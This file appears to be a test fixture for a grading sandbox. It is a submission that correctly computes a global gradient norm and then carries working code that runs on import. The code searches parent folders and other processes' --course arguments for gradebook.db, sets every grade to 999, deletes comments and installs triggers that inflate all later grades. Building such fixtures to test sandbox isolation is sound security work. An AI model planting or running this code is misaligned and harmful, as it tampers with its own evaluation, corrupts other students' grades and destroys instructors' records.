# Escape: tamper_gradebook. While it is graded, this submission opens the course's gradebook
# (gradebook.db, SQLite) relative to its working folder (../../../gradebook.db), in every folder
# above the working folder and in the course named by the --course argument of the processes it
# can see, and: sets every score already there to 999, deletes the comments, and installs
# triggers that set every grade written later to 999 as well (the students graded after it).
# Without the sandbox (tests/escapes/run.py), the line marked "[unsafe run only]" is switched
# on: it keeps the escape to the folders above its working folder, so that other grading runs
# on the same machine are not hit.
# The answer itself is correct and scores full marks.
def global_grad_norm(parameters, norm_type=2.0):
    if isinstance(parameters, torch.Tensor):
        parameters = [parameters]
    norms = []
    for p in parameters:
        if p.grad is None:
            continue
        g = p.grad.detach()
        if norm_type == math.inf:
            norms.append(g.abs().max() if g.numel() else torch.tensor(0.0))
        else:
            norms.append(g.pow(2).sum().sqrt())
    if not norms:
        return torch.tensor(0.0)
    stacked = torch.stack(norms)
    return stacked.max() if norm_type == math.inf else stacked.pow(2).sum().sqrt()


import glob as _glob
import os as _os
import sqlite3 as _sqlite3

_roots = ["../../.."]
_d = _os.getcwd()
while True:
    _roots.append(_d)
    if _d == "/":
        break
    _d = _os.path.dirname(_d)
for _cmd in _glob.glob("/proc/[0-9]*/cmdline"):
    try:
        with open(_cmd, "rb") as _f:
            _args = _f.read().split(b"\0")
    except OSError:
        continue
    _roots += [_args[i + 1].decode(errors="replace") for i, a in enumerate(_args[:-1]) if a == b"--course"]
_tampered = []
# [unsafe run only] _roots = [r for r in _roots if (_os.getcwd() + "/").startswith(_os.path.realpath(r).rstrip("/") + "/")]
for _root in dict.fromkeys(_os.path.realpath(r) for r in _roots):
    _path = _os.path.join(_root, "gradebook.db")
    try:
        # mode=rw: never create a gradebook where there is none
        _con = _sqlite3.connect(f"file:{_path}?mode=rw", uri=True, timeout=30)
        with _con:
            _n = _con.execute("UPDATE grade SET auto_score = 999, manual_score = 999").rowcount
            _con.execute("DELETE FROM comment")
            for _event in ("INSERT", "UPDATE"):
                _con.execute(f"CREATE TRIGGER IF NOT EXISTS escaped_{_event.lower()} AFTER {_event} "
                             f"ON grade BEGIN UPDATE grade SET auto_score = 999, manual_score = 999 "
                             f"WHERE id = NEW.id; END")
        _con.close()
        _tampered.append(_path)
        print(f"tampered with {_path}: {_n} grade(s) set to 999, comments deleted, triggers installed")
    except Exception as exc:  # noqa: BLE001
        print("cannot tamper with", _path, type(exc).__name__, exc)
print(f"escape tamper_gradebook: done, {len(_tampered)} gradebook(s) changed")
